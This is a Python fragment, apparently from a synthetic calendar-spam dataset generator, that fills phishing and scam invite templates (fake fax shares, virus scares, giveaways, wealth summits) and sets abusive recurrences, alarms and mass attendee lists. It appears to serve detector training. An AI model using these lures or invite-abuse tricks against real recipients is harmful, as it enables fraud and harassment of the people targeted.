            {"subj": None, "summ": "Secure fax: 3 pages from {company}", "body": "You have received a secure fax document.\nPages: 3\nOpen document: {url}", "loc": ""},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["compromised", "compromised", "compromised", "free"], None, "share")
    if m.setup == "compromised" and chance(0.5):
        m.ev.attendees += [attendee(None, "%s@%s" % (local_part(*person("en")[1:]), m.rcpt.split("@")[1])) for _ in range(R.randrange(2, 12))]
    m.desc = "Document-share lure from compromised partner" if not snip else T["summ"][:60]


def nagging(m, snip):
    def eng():
        return pick([
            {"subj": None, "summ": "🔔 Claim your reward now", "body": "Your prize is still waiting: {url}", "loc": "{url}"},
            {"subj": None, "summ": "Your iCloud storage is full", "body": "Upgrade now or your photos will be deleted: {url}", "loc": ""},
            {"subj": None, "summ": "⚠️ Your device is infected - tap to clean", "body": "Tap to remove 3 viruses: {url}", "loc": "{url}"},
            {"subj": None, "summ": "Daily payout ready 💰", "body": "Collect your daily bonus: {url}", "loc": ""},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "free", "vps", "compromised"], pick([None, "Notification", "Reminder", "Apple", "Security"]), "promo", strat="body",
                 allday=chance(0.3), dur=(5, 10, 15))
    ev = m.ev
    k = R.randrange(4)
    if k == 0:
        ev.rrule = pick(["FREQ=DAILY", "FREQ=HOURLY;INTERVAL=1", "FREQ=DAILY;INTERVAL=1;COUNT=3650", "FREQ=MINUTELY;INTERVAL=30"])
    elif k == 1:
        ev.rrule = pick(["FREQ=DAILY", "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU"])
        ev.alarms = [("-PT%dM" % i, "DISPLAY", ev.summary) for i in (0, 1, 5, 10, 15, 30, 60, 120)][: R.randrange(5, 9)]
    elif k == 2:
        shift = dt.timedelta(days=365 * R.randrange(20, 80))
        ev.start += shift
        ev.end += shift
        ev.rrule = "FREQ=YEARLY" if chance(0.5) else None
        ev.alarms = [("-P%dD" % (365 * 30), "DISPLAY", ev.summary), ("-PT1M", "DISPLAY", ev.summary)]
    else:
        ev.rrule = "FREQ=DAILY;UNTIL=%d1231T235959Z" % (m.arrival.year + R.randrange(30, 80))
        ev.alarms = [("PT0S", "DISPLAY", ev.summary)] + [("-PT%dH" % h, "AUDIO" if chance(0.3) else "DISPLAY", ev.summary) for h in range(1, R.randrange(4, 10))]
    ev.transp = "TRANSPARENT" if chance(0.3) else "OPAQUE"
    if ev.tz is not None and ev.rrule and chance(0.5):
        pass
    m.desc = "Nagging payload (recurrence/alarms/far future)"


def mass(m, snip):
    def eng():
        return pick([
            {"subj": None, "summ": "FREE %s - limited giveaway" % pick(["iPhone 16 Pro", "PS5", "Stanley tumbler", "$500 Visa gift card"]), "body": "You and 500 others were invited. First 100 to confirm receive it free: {url}", "loc": "{url}"},
            {"subj": None, "summ": "Vote NOW - community poll closes tonight", "body": "Make your voice heard. Only registered participants are counted.\n{url}", "loc": ""},
            {"subj": None, "summ": "Weight loss breakthrough - doctors hate it", "body": "Lose 12 kg in 4 weeks without diet. Free trial bottle: {url}", "loc": ""},
            {"subj": None, "summ": "Join the 10x Wealth Summit (Free Ticket)", "body": "Hundreds of investors are joining. Register free and get our 3 top stock picks: {url}", "loc": "Online"},
        ])
    T = eng_or(m, snip, eng)
    finish_event(m, T, {}, ["free", "free", "compromised", "vps"], pick([None, "Events", "Giveaway Team", "Health News", "Campaign"]), "promo", strat=pick(["body", "location"]))
    ev = m.ev
    n = R.randrange(120, 480)
    doms = [pick(FREEMAIL[pick(list(FREEMAIL))]) for _ in range(12)] + RCPT_DOMAINS["en"] + RCPT_DOMAINS.get(m.lang, [])
    seen = {m.rcpt}
    for _ in range(n):
        nm, a, b = person(pick(["en", m.lang]))
        e = "%s@%s" % (local_part(a, b, pick(["f.l", "fl9", "fl", "f_l"])), pick(doms))
        if e in seen:
            continue
        seen.add(e)
        ev.attendees.append(attendee(nm if chance(0.3) else None, e, fmt=1))
    R.shuffle(ev.attendees)
    if chance(0.5):
        m.to = [(None, a["email"]) for a in ev.attendees[:R.randrange(30, 90)]] + [(m.rcpt_name, m.rcpt)]
    m.desc = "Mass invitation to %d attendees" % len(ev.attendees)


GEN = {"retail-sale": retail, "prize-survey": prize, "crypto-invest": crypto, "dating-sextortion": dating, "fee-scam": fee,
       "cred-phish": credphish, "callback-scam": callback, "fake-update": fakeupd, "bec": bec, "advance-fee": advance,
       "job-task-scam": jobtask, "doc-share-compromised": docshare, "nagging-payload": nagging, "mass-invite": mass}


def make(m, snip):
    if m.rcpt is None:
        set_rcpt(m)
    GEN[m.category](m, snip)
